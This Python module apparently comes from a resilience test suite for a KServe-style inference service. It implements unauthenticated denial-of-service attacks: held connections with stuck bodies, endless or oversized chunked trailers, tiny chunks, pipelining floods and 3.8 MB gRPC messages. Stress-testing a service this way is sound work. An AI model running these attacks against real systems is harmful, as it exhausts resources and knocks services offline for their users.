"""Callers without a token that send what is no whole request: endless framing, bodies that never come, pipelines."""

import socket
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from threading import Event
from urllib.parse import urlsplit

CALLERS = 4
"""Threads that run an attack at the same time."""
STUCK = 1100
"""Connections of all threads whose bodies never come."""
PART = 64 * 1024
"""Bytes that an attack sends at once."""
MESSAGE = 3_800_000
PIPELINED = 1000
"""Requests that a pipeline sends at once."""
HEAD = b"%b /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
Attack = Callable[[str, str, Event], None]
"""Run the attack on a campaign at an address until the event is set."""


def pipelines(url: str, campaign: str, stop: Event) -> None:  # noqa: ARG001 - as every attack
    """Send requests without waiting for an answer, and read the answers."""
    requests = (HEAD % b"GET" + b"\r\n") * PIPELINED
    while not stop.is_set():
        with _connected(url) as connection:
            connection.settimeout(0.5)
            try:
                while not stop.is_set():
                    connection.sendall(requests)
                    connection.recv(1 << 20)
            except OSError:
                continue


def grpc_messages(url: str, campaign: str, stop: Event) -> None:
    """Send gRPC messages of 3.8 MB to a port, three at a time, without a token."""
    # Here, since KServe takes seconds to import and no other attack needs it.
    import grpc
    from kserve.protocol.grpc import grpc_predict_v2_pb2 as messages

    channel = grpc.insecure_channel(urlsplit(url).netloc, options=[("grpc.max_send_message_length", -1)])
    infer = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
    tensor = messages.ModelInferRequest.InferInputTensor(name="request_id", datatype="BYTES", shape=[1])
    tensor.contents.bytes_contents.extend([b"a"] * (MESSAGE // 3))
    message = messages.ModelInferRequest(model_name=campaign, inputs=[tensor]).SerializeToString()
    with channel, ThreadPoolExecutor(3) as pool:
        while not stop.is_set():
            for call in [pool.submit(infer, message, timeout=5) for _ in range(3)]:
                call.exception()


def hold(sent: bytes, count: int, url: str, campaign: str, stop: Event) -> None:  # noqa: ARG001 - as every attack
    """Keep ``count`` connections open on which ``sent`` was sent, and open those again that the service closes."""
    held: list[socket.socket] = []
    while not stop.wait(0.05):
        while len(held) < count and not stop.is_set():
            held.append(_connected(url))
            try:
                held[-1].sendall(sent)
            except OSError:
                break
        for each in filter(_closed, list(held)):
            each.close()
            held.remove(each)
    for each in held:
        each.close()


def pour(head: bytes, part: bytes, url: str, campaign: str, stop: Event) -> None:  # noqa: ARG001 - as every attack
    """Send a request whose ``part`` never ends."""
    while not stop.is_set():
        with _connected(url) as connection:
            connection.settimeout(0.5)
            try:
                connection.sendall(head)
                while not stop.is_set():
                    connection.sendall(part)
            except OSError:
                continue


def _connected(url: str) -> socket.socket:
    place = urlsplit(url)
    connection = socket.socket()
    connection.settimeout(1.0)
    try:
        connection.connect((place.hostname or "", place.port or 80))
    except OSError:
        # The connection is tried by its first send, and fails there.
        time.sleep(0.05)
    return connection


def _closed(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        return connection.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        connection.setblocking(True)


WITHOUT_TOKEN: dict[str, Attack] = {
    "endless trailers": partial(pour, HEAD % b"GET" + CHUNKED + b"0\r\nX-Long: ", b"a" * PART),
    "many trailers": partial(pour, HEAD % b"GET" + CHUNKED + b"0\r\n", b"X-A: b\r\n" * (PART // 8)),
    "tiny chunks": partial(pour, HEAD % b"POST" + CHUNKED, b"1\r\n \r\n" * (PART // 6)),
    "chunk extensions": partial(pour, HEAD % b"POST" + CHUNKED + b"1;", b"a" * PART),
    "gRPC messages": grpc_messages,
    "pipelines": pipelines,
    "stuck bodies": partial(hold, HEAD % b"POST" + b"Content-Length: 100\r\n\r\n", STUCK // CALLERS),
    "silent connections": partial(hold, b"", STUCK // CALLERS),
}
